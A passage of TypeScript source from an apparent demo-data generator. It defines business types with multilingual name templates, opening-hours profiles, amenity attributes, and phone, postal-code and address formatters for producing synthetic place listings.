    n: { en: ["{P} Casino", "Casino {C}", "Grand Casino {P}"], de: ["Spielbank {C}", "Casino {C}"] },
  },
  {
    t: "Golf course", w: 0.3, h: "leisure", a: "leisure", q: "golf", labels: ["Golf course", "Golf club"],
    n: {
      en: ["{P} Golf Club", "{C} Golf Course", "{P} Golf & Country Club"],
      de: ["Golfclub {C}", "Golfpark {P}"],
      fr: ["Golf de {C}", "Golf {P}"],
      es: ["Club de Golf {P}", "Real Club de Golf {P}"],
      it: ["Golf Club {P}"],
      tr: ["{P} Golf Club"],
    },
  },
  {
    t: "Ski school", w: 0.15, h: "leisure", a: "leisure", q: "ski schools", labels: ["Ski school"],
    n: { en: ["{C} Ski School", "{P} Ski & Snowboard School"], de: ["Skischule {P}", "Skischule {C}"], fr: ["École de ski {P}"], it: ["Scuola Sci {P}"], es: ["Escuela de Esquí {P}"] },
  },
  {
    t: "Bowling alley", w: 0.2, h: "night", a: "leisure", q: "bowling", labels: ["Bowling alley"],
    n: { en: ["{P} Lanes", "{C} Bowling", "{A} Bowl"], de: ["Bowlingcenter {P}", "Bowling {C}"] },
  },
  {
    t: "Escape room center", w: 0.3, h: "leisure", a: "leisure", q: "escape rooms", labels: ["Escape room center"],
    n: { en: ["{P} Escape Room", "Escape {C}", "{A} Escape Games", "Locked In {C}"], de: ["Escape Room {C}", "Exit {P}"] },
  },
  {
    t: "Campground", w: 0.4, h: "leisure", a: "leisure", q: "campgrounds", labels: ["Campground", "RV park"],
    loc: { de: ["Campingplatz"], fr: ["Camping"], it: ["Campeggio"], es: ["Camping"] },
    n: {
      en: ["{P} Campground", "{P} RV Park", "{P} Holiday Park"],
      de: ["Campingplatz {P}", "Camping {P}"],
      fr: ["Camping {P}", "Camping Les {Pins|Oliviers|Mimosas|Chênes|Flots Bleus}"],
      it: ["Camping {P}", "Campeggio {P}"],
      es: ["Camping {P}"],
      nl: ["Camping {P}"],
      tr: ["{P} Kamp"],
    },
  },
  {
    t: "Wedding venue", w: 0.4, h: "office", a: "service", q: "wedding venues", labels: ["Wedding venue", "Banquet hall"],
    loc: { tr: ["Düğün salonu"] },
    n: {
      en: ["{P} Manor", "{P} Estate Weddings", "The {P} Barn", "{S} Hall"],
      it: ["Villa {P} Ricevimenti", "Tenuta {P}"],
      es: ["Finca {P}", "Hacienda {P}"],
      tr: ["{P} Düğün Salonu", "{P} Kır Düğünü"],
      de: ["Hochzeitslocation {P}", "Schloss {P}"],
      fr: ["Domaine {P}", "Château {S}"],
      pt: ["Quinta {P}"],
    },
  },
  {
    t: "Event venue", w: 0.4, h: "office", a: "service", q: "event venues", labels: ["Event venue", "Conference center"],
    n: {
      en: ["{C} Events Center", "{P} Hall", "{P} Event Space", "The {A} Loft"],
      de: ["Eventlocation {P}", "{P} Halle"],
      es: ["Espacio {P}", "Salón de Eventos {P}"],
      tr: ["{P} Etkinlik Alanı", "{P} Davet Salonu"],
    },
  },
  {
    t: "Lawyer", w: 0.6, h: "office", a: "pro", q: "lawyers", labels: ["Lawyer", "Law firm"],
    loc: { de: ["Rechtsanwalt"], fr: ["Avocat"], it: ["Avvocato"], es: ["Abogado"], tr: ["Avukat"] },
    n: {
      en: ["{S} & {S2} LLP", "{S} Law", "{S}, {S2} & Partners", "Law Office of {F} {S}"],
      de: ["Kanzlei {S}", "Rechtsanwälte {S} & {S2}", "{S} {S2} Rechtsanwälte"],
      fr: ["Cabinet {S}", "Maître {F} {S}", "{S} & Associés"],
      it: ["Studio Legale {S}", "Studio Legale {S} & {S2}", "Avv. {F} {S}"],
      es: ["{S} Abogados", "Bufete {S} & {S2}", "Abogados {S} y {S2}"],
      pt: ["{S} & {S2} Advogados", "{S} Advogados Associados"],
      tr: ["Av. {F} {S}", "{S} Hukuk Bürosu"],
      nl: ["Advocatenkantoor {S}", "{S} & {S2} Advocaten"],
      pl: ["Kancelaria Adwokacka {F} {S}", "Kancelaria Prawna {S}"],
    },
  },
  {
    t: "Accountant", w: 0.4, h: "office", a: "pro", q: "accountants", labels: ["Accountant", "Tax consultant"],
    loc: { de: ["Steuerberater"], es: ["Asesoría"] },
    n: {
      en: ["{S} & Co. Accountants", "{S} Accounting", "{P} Tax & Accounting"],
      de: ["Steuerberatung {S}", "Steuerkanzlei {S} & {S2}"],
      fr: ["Cabinet comptable {S}", "{S} Expertise Comptable"],
      it: ["Studio Commercialista {S}"],
      es: ["Asesoría {S}", "Gestoría {P}"],
      tr: ["{S} Mali Müşavirlik"],
    },
  },
  {
    t: "Real estate agency", w: 1, h: "office", a: "pro", q: "real estate", labels: ["Real estate agency"],
    loc: { de: ["Immobilienmakler"], fr: ["Agence immobilière"], it: ["Agenzia immobiliare"], es: ["Inmobiliaria"], tr: ["Emlak ofisi"] },
    n: {
      en: ["{S} Real Estate", "{P} Realty", "{C} Property Group", "{S} & {S2} Estate Agents"],
      de: ["{S} Immobilien", "Immobilien {P}"],
      fr: ["Agence {P}", "{S} Immobilier", "Immobilière {P}"],
      it: ["Agenzia Immobiliare {P}", "Immobiliare {S}"],
      es: ["Inmobiliaria {P}", "{S} Inmobiliaria"],
      pt: ["Imobiliária {P}"],
      tr: ["{P} Emlak", "{S} Gayrimenkul"],
      nl: ["{S} Makelaars", "Makelaardij {P}"],
      pl: ["Biuro Nieruchomości {P}"],
    },
  },
  {
    t: "Bank", w: 0.5, h: "office", a: "pro", q: "banks", labels: ["Bank", "ATM"],
    loc: { de: ["Bank"], fr: ["Banque"], it: ["Banca"], es: ["Banco"], tr: ["Banka"] },
    n: {
      en: ["{C} Savings Bank", "{P} Bank", "Bank of {C}", "{C} Credit Union", "{P} Bank – {C} Branch"],
      de: ["Sparkasse {C}", "Volksbank {C}", "{P} Bank"],
      fr: ["Banque {P}", "Crédit {P}"],
      it: ["Banca {P}", "Cassa di Risparmio di {C}"],
      es: ["Banco {P}", "Caja {C}"],
      tr: ["{P} Bank {C} Şubesi"],
    },
  },
  {
    t: "Laundromat", w: 0.4, h: "shop", a: "service", q: "laundromats", labels: ["Laundromat", "Dry cleaner", "Laundry service"],
    loc: { de: ["Waschsalon"], fr: ["Laverie"], es: ["Lavandería"], tr: ["Çamaşırhane"] },
    n: {
      en: ["{P} Laundromat", "{C} Laundry", "{A} Wash & Fold", "Bubbles {P}"],
      de: ["Waschsalon {P}", "Waschcenter {C}"],
      fr: ["Laverie {P}", "Lavomatic {P}"],
      es: ["Lavandería {P}", "Lavandería Autoservicio {P}"],
      it: ["Lavanderia {P}", "Lavanderia Self-Service {P}"],
      tr: ["{P} Çamaşırhane", "{P} Kuru Temizleme"],
    },
  },
  {
    t: "Car repair and maintenance service", w: 0.5, h: "office", a: "service", q: "auto repair", labels: ["Auto repair shop", "Car repair and maintenance service"],
    loc: { de: ["Autowerkstatt"], fr: ["Garage automobile"], it: ["Autofficina"], es: ["Taller mecánico"], tr: ["Oto tamirci"] },
    n: {
      en: ["{S} Auto Repair", "{P} Garage", "{C} Auto Service", "{S} & Sons Motors"],
      de: ["Autowerkstatt {S}", "KFZ-Meisterbetrieb {S}", "Autohaus {S}"],
      fr: ["Garage {S}", "Garage du {Centre|Lac|Port|Pont}"],
      it: ["Autofficina {S}", "Officina {S}"],
      es: ["Taller {S}", "Talleres {P}"],
      tr: ["{S} Oto Servis", "{P} Oto Tamir"],
      pt: ["Oficina {S}", "Auto {P}"],
      nl: ["Garage {S}", "Autobedrijf {S}"],
      pl: ["Warsztat Samochodowy {S}", "Auto Serwis {P}"],
    },
  },
  {
    t: "Coworking space", w: 0.4, h: "office", a: "service", q: "coworking", labels: ["Coworking space"],
    n: { en: ["{P} Coworking", "{C} Hub", "{A} Workspace", "The {P} Collective", "{C} Creative Space"], de: ["Coworking {C}", "{P} Spaces"], es: ["Coworking {P}", "Espacio {P} Coworking"] },
  },
  {
    t: "Language school", w: 0.3, h: "office", a: "service", q: "language schools", labels: ["Language school"],
    loc: { de: ["Sprachschule"], es: ["Academia de idiomas"] },
    n: {
      en: ["{C} Language Centre", "{P} Language School", "{S} Institute of Languages"],
      de: ["Sprachschule {P}", "Sprachinstitut {C}"],
      es: ["Academia de Idiomas {P}", "Escuela de Español {P}"],
      it: ["Scuola di Italiano {P}", "Centro Linguistico {P}"],
      fr: ["École de langues {P}", "Institut {P}"],
      tr: ["{P} Dil Okulu", "{P} Yabancı Dil Kursu"],
    },
  },
  {
    t: "Post office", w: 0.2, h: "office", a: "service", q: "post offices", labels: ["Post office"],
    n: {
      en: ["{C} Post Office", "{P} Post Office", "{C} Main Post Office"],
      de: ["Postfiliale {C}", "Postfiliale {C} {P}"],
      fr: ["Bureau de poste {C} {P}"],
      it: ["Ufficio Postale {C} {P}"],
      es: ["Oficina de Correos {C}"],
      tr: ["PTT {C} Şubesi", "{P} PTT"],
      nl: ["Postkantoor {C}"],
    },
  },
];

// ---------------------------------------------------------------------------------------------
// Opening hours in Google export style: "9AM-5PM", "11:30AM-2:30PM,5:30-11PM", "4PM-2AM".
// ---------------------------------------------------------------------------------------------

const DAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"] as const;
const OPEN_24 = "Open 24 hours";
const CLOSED = "Closed";
const hm = (h: number, m = 0): number => h * 60 + m;

function fmtTime(min: number, meridiem: boolean, lower: boolean): string {
  const t = ((min % 1440) + 1440) % 1440;
  const h = Math.floor(t / 60);
  const m = t % 60;
  const h12 = h % 12 === 0 ? 12 : h % 12;
  const base = m === 0 ? String(h12) : `${h12}:${m < 10 ? "0" : ""}${m}`;
  if (!meridiem) return base;
  const mer = h < 12 ? "AM" : "PM";
  return base + (lower ? mer.toLowerCase() : mer);
}

/** Google omits the start's AM/PM when both ends fall in the same half-day ("5:30-11PM"). */
function fmtRange(start: number, end: number, lower: boolean): string {
  const sameHalf = Math.floor(start / 720) === Math.floor(end / 720);
  return `${fmtTime(start, !sameHalf, lower)}-${fmtTime(end, true, lower)}`;
}

const SOUTH_EU = new Set(["IT", "ES", "PT", "GR", "FR", "HR", "CY", "MT", "TR"]);
const SUNDAY_CLOSED = new Set(["DE", "AT", "CH", "NL", "BE", "PL", "CZ", "HU", "SK", "SI", "HR", "IT", "ES", "PT", "FR", "LU"]);

function week(weekday: string, sat: string, sun: string): string[] {
  return [weekday, weekday, weekday, weekday, weekday, sat, sun];
}

function workingHours(profile: HoursProfile, cc: string): string[] {
  const lower = rnd() < 0.2;
  const R = (s: number, e: number): string => fmtRange(s, e, lower);
  switch (profile) {
    case "hotel": {
      if (rnd() < 0.9) return week(OPEN_24, OPEN_24, OPEN_24);
      const r = R(pick([hm(6), hm(7), hm(7, 30), hm(8)]), pick([hm(22), hm(23), hm(24)]));
      return week(r, r, r);
    }
    case "h24": {
      if (rnd() < 0.9) return week(OPEN_24, OPEN_24, OPEN_24);
      const r = R(hm(6), hm(24));
      return week(r, r, r);
    }
    case "food": {
      let wk: string;
      let fri: string;
      let sat: string;
      let sun: string;
      if (rnd() < 0.35) {
        const ls = pick([hm(11), hm(11, 30), hm(12)]);
        const le = pick([hm(14), hm(14, 30), hm(15)]);
        const ds = pick([hm(17), hm(17, 30), hm(18), hm(18, 30), hm(19)]);
        const de = pick([hm(22), hm(22, 30), hm(23), hm(23, 30)]);
        wk = `${R(ls, le)},${R(ds, de)}`;
        fri = rnd() < 0.5 ? wk : `${R(ls, le)},${R(ds, de + 60)}`;
        sat = rnd() < 0.5 ? fri : R(ds - 60, de + 60);
        sun = rnd() < 0.6 ? R(ls, le + 60) : wk;
      } else {
        const s = pick([hm(7), hm(8), hm(10), hm(11), hm(11), hm(11, 30), hm(12)]);
        const e = pick([hm(21), hm(22), hm(22), hm(22, 30), hm(23), hm(24)]);
        wk = R(s, e);
        fri = rnd() < 0.5 ? wk : R(s, e + 60);
        sat = fri;
        sun = rnd() < 0.7 ? wk : R(s + 60, e - 60);
      }
      const d = [wk, wk, wk, wk, fri, sat, sun];
      if (rnd() < 0.35) d[0] = CLOSED;
      if (rnd() < 0.12) d[6] = CLOSED;
      if (rnd() < 0.08) d[1] = CLOSED;
      return d;
    }
    case "cafe": {
      const s = pick([hm(6, 30), hm(7), hm(7, 30), hm(8), hm(9)]);
      const e = pick([hm(15), hm(17), hm(18), hm(18), hm(19), hm(20)]);
      const wk = R(s, e);
      const we = rnd() < 0.5 ? wk : R(s + 60, e);
      const d = week(wk, we, we);
      if (rnd() < 0.15) d[6] = CLOSED;
      if (rnd() < 0.1) d[0] = CLOSED;
      return d;
    }
    case "night": {
      const s = pick([hm(16), hm(17), hm(18), hm(19), hm(20), hm(21), hm(22)]);
      const e = pick([hm(24), hm(25), hm(26), hm(26), hm(27), hm(28), hm(29)]);
      const wk = R(s, e);
      const late = R(s, Math.min(e + 60, hm(29)));
      const d = [wk, wk, wk, wk, late, late, wk];
      if (rnd() < 0.3) d[0] = CLOSED;
      if (rnd() < 0.3) d[6] = CLOSED;
      if (rnd() < 0.15) d[1] = CLOSED;
      return d;
    }
    case "shop": {
      const s = pick([hm(8), hm(9), hm(9), hm(9, 30), hm(10)]);
      const e = pick([hm(18), hm(18, 30), hm(19), hm(19), hm(20)]);
      let wk = R(s, e);
      if (SOUTH_EU.has(cc) && rnd() < 0.4) wk = `${R(s, hm(13))},${R(hm(16), Math.max(e, hm(19, 30)))}`;
      const sat = rnd() < 0.5 ? wk : R(s, pick([hm(13), hm(14), hm(16), hm(18)]));
      const sun = rnd() < (SUNDAY_CLOSED.has(cc) ? 0.8 : 0.35) ? CLOSED : R(hm(10), pick([hm(16), hm(17), hm(18)]));
      return week(wk, sat, sun);
    }
    case "pharmacy": {
      if (rnd() < 0.1) return week(OPEN_24, OPEN_24, OPEN_24);
      return workingHours("shop", cc);
    }
    case "office": {
      const s = pick([hm(8), hm(8, 30), hm(9)]);
      const e = pick([hm(17), hm(17, 30), hm(18), hm(19)]);
      const wk = rnd() < 0.25 ? `${R(s, hm(12))},${R(hm(14), e)}` : R(s, e);
      const sat = rnd() < 0.85 ? CLOSED : R(hm(9), hm(12));
      const d = week(wk, sat, CLOSED);
      if (rnd() < 0.1) d[4] = R(s, hm(15));
      return d;
    }
    case "culture": {
      const s = pick([hm(9), hm(9, 30), hm(10)]);
      const e = pick([hm(17), hm(18), hm(18), hm(19)]);
      const d = week(R(s, e), R(s, e), R(s, e));
      if (rnd() < 0.5) d[0] = CLOSED;
      if (rnd() < 0.2) d[3] = R(s, hm(21));
      return d;
    }
    case "leisure": {
      if (rnd() < 0.2) return week(OPEN_24, OPEN_24, OPEN_24);
      const s = pick([hm(8), hm(9), hm(10)]);
      const e = pick([hm(17), hm(18), hm(19), hm(20)]);
      const d = week(R(s, e), R(s, e + 60), R(s, e));
      if (rnd() < 0.1) d[0] = CLOSED;
      return d;
    }
    case "fitness": {
      if (rnd() < 0.15) return week(OPEN_24, OPEN_24, OPEN_24);
      const wk = R(pick([hm(5), hm(6), hm(7)]), pick([hm(21), hm(22), hm(23)]));
      const we = R(pick([hm(8), hm(9)]), pick([hm(18), hm(20)]));
      return week(wk, we, rnd() < 0.15 ? CLOSED : we);
    }
    case "beauty": {
      const s = pick([hm(9), hm(9), hm(10)]);
      const e = pick([hm(18), hm(19), hm(20)]);
      const d = week(R(s, e), R(s, hm(16)), CLOSED);
      if (rnd() < 0.6) d[0] = CLOSED;
      if (rnd() < 0.15) d[6] = R(hm(10), hm(16));
      return d;
    }
    case "transport": {
      if (rnd() < 0.4) return week(OPEN_24, OPEN_24, OPEN_24);
      const s = pick([hm(7), hm(8)]);
      const e = pick([hm(18), hm(20), hm(22)]);
      return week(R(s, e), R(s, e - 120), R(s + 60, e - 180));
    }
    case "tour": {
      const r = R(pick([hm(7), hm(8), hm(9)]), pick([hm(19), hm(20), hm(21)]));
      return week(r, r, r);
    }
  }
}

function hoursJson(days: string[]): string {
  let s = "{";
  for (let i = 0; i < 7; i++) s += `${i ? ", " : ""}"${DAYS[i]}": "${days[i]}"`;
  return s + "}";
}

// ---------------------------------------------------------------------------------------------
// "about" amenity groups. Item prefixes: "+" almost always present and true, "~" occasional,
// "!" occasional and usually false; plain = common, mostly true.
// ---------------------------------------------------------------------------------------------

const ACCESSIBILITY = "Accessibility:Wheelchair accessible entrance,Wheelchair accessible parking lot,~Wheelchair accessible elevator,Wheelchair accessible restroom,~Wheelchair accessible seating";
const PAYMENTS = "Payments:+Credit cards,Debit cards,NFC mobile payments,!Cash only,~Checks";

const ABOUT_SPECS: Record<AboutProfile, string[]> = {
  hotel: [
    `Amenities:+Free Wi-Fi,Breakfast,~Free breakfast,Pool,~Indoor pool,~Hot tub,Spa,Fitness center,Free parking,~Paid parking,Restaurant,Bar,Room service,~Airport shuttle,!Pet-friendly,+Air conditioning,Laundry service,~Business center,~Kitchen in rooms,Kid-friendly,+Smoke-free,~Beach access,Elevator,+24-hour front desk`,
    ACCESSIBILITY,
    PAYMENTS,
    "Crowd:~LGBTQ+ friendly,~Transgender safe space",
    "From the business:!Identifies as women-owned",
  ],
  food: [
    "Service options:+Dine-in,Takeout,Delivery,Outdoor seating,~Curbside pickup,!Drive-through,~No-contact delivery",
    "Highlights:~Great coffee,~Great dessert,~Live music,~Rooftop seating,~Fireplace,~Sports",
    "Popular for:Lunch,Dinner,~Solo dining,~Breakfast",
    "Offerings:Alcohol,Beer,~Cocktails,Coffee,Vegetarian options,~Vegan options,Wine,~Healthy options,~Small plates,~Happy hour drinks,~Organic dishes",
    "Dining options:~Breakfast,~Brunch,Lunch,Dinner,Dessert,Seating,~Catering",
    "Amenities:+Restroom,Wi-Fi,~Free Wi-Fi,~Bar on site,~High chairs",
    "Atmosphere:Casual,~Cozy,~Romantic,~Trendy,~Upscale,~Quiet",
    "Crowd:~Family-friendly,Groups,~Tourists,~LGBTQ+ friendly,~College students",
    "Planning:Accepts reservations,~Reservations required,~Usually a wait",
    PAYMENTS,
    ACCESSIBILITY,
    "Children:Good for kids,~Kids' menu,~High chairs",
    "Parking:~Free parking lot,~Free street parking,~Paid street parking,~Paid parking garage",
    "Pets:!Dogs allowed,~Dogs allowed outside",
  ],
  night: [
    "Service options:+On-site services,~Outdoor seating,~Takeout",
    "Highlights:~Great cocktails,~Live music,~Sports,~Rooftop seating,~Karaoke,~Happy hour",
    "Offerings:+Alcohol,+Beer,Cocktails,Spirits,Wine,~Bar games,~Late-night food,~Happy hour drinks",
    "Amenities:+Restroom,~Wi-Fi,~Gender-neutral restroom",
    "Atmosphere:Casual,~Cozy,~Trendy,~Upscale",
    "Crowd:Groups,~Tourists,~LGBTQ+ friendly,~College students",
    PAYMENTS,
    ACCESSIBILITY,
  ],
  shop: [
    "Service options:+In-store shopping,~In-store pickup,~Delivery,~Same-day delivery,~Curbside pickup",
    "Amenities:~Restroom",
    PAYMENTS,
    ACCESSIBILITY,
    "Parking:~Free parking lot,~Paid parking lot,~Free street parking",
    "From the business:!Identifies as women-owned",
  ],
  pro: [
    "Service options:~Online appointments,~On-site services,~Language assistance",
    "Amenities:~Restroom,~Gender-neutral restroom",
    "Planning:Appointment required,~Appointments recommended",
    PAYMENTS,
    ACCESSIBILITY,
    "From the business:!Identifies as women-owned,!Identifies as veteran-owned",
  ],
  culture: [
    "Amenities:+Restroom,~Wi-Fi,~Gift shop,~Café",
    "Children:Good for kids,~Kid-friendly activities",
    "Planning:~Tickets required,~Free entry",
    PAYMENTS,
    ACCESSIBILITY,
  ],
  leisure: [
    "Amenities:~Restroom,~Picnic tables,~Drinking water,~Café",
    "Children:Good for kids,~Kid-friendly activities",
    "Planning:~Reservations required,~Guided tours",
    "Pets:!Dogs allowed",
    PAYMENTS,
    ACCESSIBILITY,
  ],
  fitness: [
    "Amenities:+Restroom,~Wi-Fi,~Showers,~Lockers,~Sauna",
    "Planning:~Appointment required,~Membership required",
    "Crowd:~LGBTQ+ friendly,~Transgender safe space",
    PAYMENTS,
    ACCESSIBILITY,
  ],
  beauty: [
    "Amenities:~Restroom,~Wi-Fi",
    "Planning:Appointment required,~Appointments recommended",
    "Crowd:~LGBTQ+ friendly",
    PAYMENTS,
    ACCESSIBILITY,
    "From the business:!Identifies as women-owned",
  ],
  service: [
    "Service options:~Online appointments,~On-site services,~Online estimates,~Language assistance",
    "Planning:~Appointment required,~Reservations required",
    PAYMENTS,
    ACCESSIBILITY,
  ],
};

interface AboutItem {
  label: string;
  inc: number;
  pTrue: number;
}

const ABOUT: Record<AboutProfile, Array<{ group: string; items: AboutItem[] }>> = Object.fromEntries(
  Object.entries(ABOUT_SPECS).map(([profile, groups]) => [
    profile,
    groups.map((spec) => {
      const colon = spec.indexOf(":");
      const items = spec
        .slice(colon + 1)
        .split(",")
        .map((raw): AboutItem => {
          const c = raw.charAt(0);
          if (c === "+") return { label: raw.slice(1), inc: 0.92, pTrue: 0.97 };
          if (c === "~") return { label: raw.slice(1), inc: 0.35, pTrue: 0.75 };
          if (c === "!") return { label: raw.slice(1), inc: 0.35, pTrue: 0.2 };
          return { label: raw, inc: 0.65, pTrue: 0.88 };
        });
      return { group: spec.slice(0, colon), items };
    }),
  ]),
) as Record<AboutProfile, Array<{ group: string; items: AboutItem[] }>>;

function aboutJson(profile: AboutProfile): string {
  let out = "";
  for (const { group, items } of ABOUT[profile]) {
    if (rnd() < 0.2) continue; // groups are often missing from exports
    let inner = "";
    for (const it of items) {
      const r = rnd();
      if (r >= it.inc) continue;
      inner += `${inner ? ", " : ""}"${it.label}": ${r < it.inc * it.pTrue ? "true" : "false"}`;
    }
    if (inner) out += `${out ? ", " : ""}"${group}": {${inner}}`;
  }
  return out ? `{${out}}` : `{"Accessibility": {"Wheelchair accessible entrance": true}}`;
}

// ---------------------------------------------------------------------------------------------
// Compiled tables (built once at module load).
// ---------------------------------------------------------------------------------------------

interface PhoneSpec {
  dial: string;
  nsn: number;
  groups: number[];
  byRest: Map<number, number[]>;
  split: boolean;
  sep: string;
  areaSep: string;
  areas: string[];
}

interface Country {
  def: CountryDef;
  phone: PhoneSpec;
  streets: StreetPool;
  usesMotels: boolean;
}

interface City {
  name: string;
  lat: number;
  lon: number;
  postal: string[];
  area: string | null;
  region: string | null;
  tz: string;
  lang: string;
  country: Country;
  spread: number;
}

function parsePhone(spec: string): PhoneSpec {
  const [dial = "", nsn = "0", groups = "", split = "0", sep = "", areaSep = "", areas = ""] = spec.split("|");
  const [dflt = "", ...rest] = groups.split("/");
  const nums = (s: string): number[] => s.split(",").map(Number);
  return {
    dial,
    nsn: Number(nsn),
    groups: nums(dflt),
    byRest: new Map(rest.map((r) => {
      const [len = "0", g = ""] = r.split("=");
      return [Number(len), nums(g)] as [number, number[]];
    })),
    split: split === "1",
    sep: sep || " ",
    areaSep: areaSep || " ",
    areas: areas ? areas.split("/") : [""],
  };
}

const MOTEL_COUNTRIES = new Set(["US", "CA", "AU", "NZ"]);

const CITIES: City[] = [];
const CITY_WEIGHTS: number[] = [];

for (const def of COUNTRY_DEFS) {
  const streets = STREETS[def.st];
  if (!streets) throw new Error(`demo-data: unknown street pool ${def.st}`);
  const country: Country = { def, phone: parsePhone(def.ph), streets, usesMotels: MOTEL_COUNTRIES.has(def.cc) };
  const lines = def.cities.split("\n").map((l) => l.trim()).filter(Boolean);
  const n = lines.length;
  let harmonic = 0;
  for (let r = 0; r < n; r++) harmonic += 1 / Math.pow(r + 1, 1.1);
  lines.forEach((line, rank) => {
    const [name = "", lat = "0", lon = "0", postal = "", area = "", region = "", tz = "", lang = ""] = line.split("|");
    CITIES.push({
      name,
      lat: Number(lat),
      lon: Number(lon),
      postal: postal ? postal.split("/") : [],
      area: area || null,
      region: region || null,
      tz: tz || def.tz,
      lang: lang || def.lang,
      country,
      spread: rank < 3 ? 0.035 : rank < 10 ? 0.022 : 0.012,
    });
    // Zipf within the country, blended with a uniform share so every city gets a fair number.
    CITY_WEIGHTS.push(def.w * (0.62 / Math.pow(rank + 1, 1.1) / harmonic + 0.38 / n));
  });
}

const CITY_TABLE = new Weighted<City>(CITIES.map((c, i) => [c, CITY_WEIGHTS[i] as number] as const));
const HOTEL_TABLE = new Weighted<TypeDef>(HOTEL_TYPES.map((t) => [t, t.w] as const));
const OTHER_TABLE = new Weighted<TypeDef>(OTHER_TYPES.map((t) => [t, t.w] as const));
const PLAIN_HOTEL = HOTEL_TYPES[0] as TypeDef;
const MALL = OTHER_TYPES.find((t) => t.t === "Shopping mall") as TypeDef;

// Name templates compiled to parts.
type Part = string | { k: string; pool: string | null } | { opts: string[] };
const TEMPLATE_CACHE = new Map<string, Part[]>();

function compile(tpl: string): Part[] {
  let parts = TEMPLATE_CACHE.get(tpl);
  if (parts) return parts;
  parts = [];
  let last = 0;
  for (const m of tpl.matchAll(/\{([^}]+)\}/g)) {
    if (m.index > last) parts.push(tpl.slice(last, m.index));
    const body = m[1] as string;
    if (body.includes("|")) parts.push({ opts: body.split("|") });
    else {
      const [k = "", pool = null] = body.split(":");
      parts.push({ k, pool });
    }
    last = m.index + m[0].length;
  }
  if (last < tpl.length) parts.push(tpl.slice(last));
  TEMPLATE_CACHE.set(tpl, parts);
  return parts;
}

let nameBrand: string | null = null;

function fillTemplate(parts: Part[], lang: string, city: string): string {
  const pool = NAME_POOLS[lang] ?? (NAME_POOLS.en as NamePool);
  let out = "";
  let firstSurname = "";
  for (const part of parts) {
    if (typeof part === "string") {
      out += part;
      continue;
    }
    if ("opts" in part) {
      out += pick(part.opts);
      continue;
    }
    const p = part.pool ? (NAME_POOLS[part.pool] ?? pool) : pool;
    switch (part.k) {
      case "S":
        firstSurname = pick(p.s);
        out += firstSurname;
        break;
      case "S2": {
        let s = pick(p.s);
        if (s === firstSurname) s = pick(p.s);
        out += s;
        break;
      }
      case "F":
        out += pick(p.f);
        break;
      case "P":
        out += pick(p.p);
        break;
      case "C":
        out += city;
        break;
      case "A":
        out += pick(PHRASES);
        break;
      case "B":
        nameBrand = pick(BRANDS);
        out += nameBrand;
        break;
      case "Q":
        out += pick(QUALIFIERS);
        break;
      default:
        out += part.k;
    }
  }
  return out;
}

const COMPILED = new Map<TypeDef, Record<string, Part[][]>>(
  [...HOTEL_TYPES, ...OTHER_TYPES].map((def) => [
    def,
    Object.fromEntries(Object.entries(def.n).map(([lang, tpls]) => [lang, tpls.map(compile)])),
  ]),
);

function businessName(def: TypeDef, lang: string, city: string): string {
  const byLang = COMPILED.get(def) as Record<string, Part[][]>;
  const templates = byLang[lang] ?? (byLang.en as Part[][]);
  return fillTemplate(pick(templates), lang, city);
}

// ---------------------------------------------------------------------------------------------
// Field generators.
// ---------------------------------------------------------------------------------------------

const DIGITS = "0123456789";
const POSTAL_LETTERS = "ABDEFGHJLNPQRSTUWXYZ";
const ALNUM = "ACDEFHKNPRTVWXY0123456789";
const B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

function randDigits(n: number): string {
  let s = "";
  for (let i = 0; i < n; i++) s += (i === 0 ? 2 + ((rnd() * 8) | 0) : (rnd() * 10) | 0).toString();
  return s;
}

function chunk(digits: string, groups: number[], sep: string): string {
  let out = "";
  let pos = 0;
  for (let g = 0; g < groups.length && pos < digits.length; g++) {
    const len = g === groups.length - 1 ? digits.length - pos : (groups[g] as number);
    out += (out ? sep : "") + digits.slice(pos, pos + len);
    pos += len;
  }
  return out;
}

function phoneNumber(country: Country, city: City): string {
  const ph = country.phone;
  const area = city.area ?? pick(ph.areas);
  const rest = randDigits(Math.max(4, ph.nsn - area.length));
  if (ph.split && area) {
    const groups = ph.byRest.get(rest.length) ?? ph.groups;
    return `+${ph.dial} ${area}${ph.areaSep}${chunk(rest, groups, ph.sep)}`;
  }
  return `+${ph.dial} ${chunk(area + rest, ph.groups, ph.sep)}`;
}

function postalFromFormat(format: string): string {
  let s = "";
  for (const c of format) {
    if (c === "#") s += DIGITS.charAt((rnd() * 10) | 0);
    else if (c === "L") s += POSTAL_LETTERS.charAt((rnd() * POSTAL_LETTERS.length) | 0);
    else if (c === "X") s += ALNUM.charAt((rnd() * ALNUM.length) | 0);
    else s += c;
  }
  return s;
}

function postalCode(country: Country, city: City): string | null {
  const format = country.def.pc;
  if (!format) return null;
  if (format === "GB") {
    let outward = city.postal.length ? pick(city.postal) : "EC1A";
    if (!/\d/.test(outward)) outward += String(1 + ((rnd() * 20) | 0));
    return `${outward} ${(rnd() * 10) | 0}${postalFromFormat("LL")}`;
  }
  const prefix = city.postal.length ? pick(city.postal) : "";
  if (prefix.length >= format.length) return prefix;
  return prefix + postalFromFormat(format.slice(prefix.length));
}

const TR_NEIGHBOURHOODS = list(`Cumhuriyet, Atatürk, Yeni, Merkez, Kültür, Barbaros, Fatih, Hürriyet, Kemalpaşa, Gazi,
  Bahçelievler, Çarşı, Tepebaşı, Kuloğlu, Sultanahmet, Alsancak, Kaleiçi`);

function streetAddress(pool: StreetPool): string {
  const name = pick(pool.names);
  const r = rnd();
  const n = 1 + Math.floor(pool.max * r * r * (pool.max > 1000 ? r : 1));
  switch (pool.style) {
    case "nf":
      return `${n} ${name}`;
    case "nl":
      return `${name} ${n}${rnd() < 0.04 ? "a" : ""}`;
    case "nc":
      return `${name}, ${n}`;
    case "tr":
      return rnd() < 0.5 ? `${pick(TR_NEIGHBOURHOODS)} Mah., ${name} No:${n}` : `${name} No:${n}`;
    case "jp":
      return `${1 + ((rnd() * 5) | 0)} Chome-${1 + ((rnd() * 25) | 0)}-${1 + ((rnd() * 20) | 0)} ${name}`;
    case "nm":
      return name;
  }
}

function joinSp(a: string | null, b: string | null, c: string | null = null): string {
  let out = a ?? "";
  if (b) out = out ? `${out} ${b}` : b;
  if (c) out = out ? `${out} ${c}` : c;
  return out;
}

function fullAddress(style: AddressStyle, street: string | null, city: string, postal: string | null, region: string | null, country: string): string {
  let local: string;
  switch (style) {
    case "us":
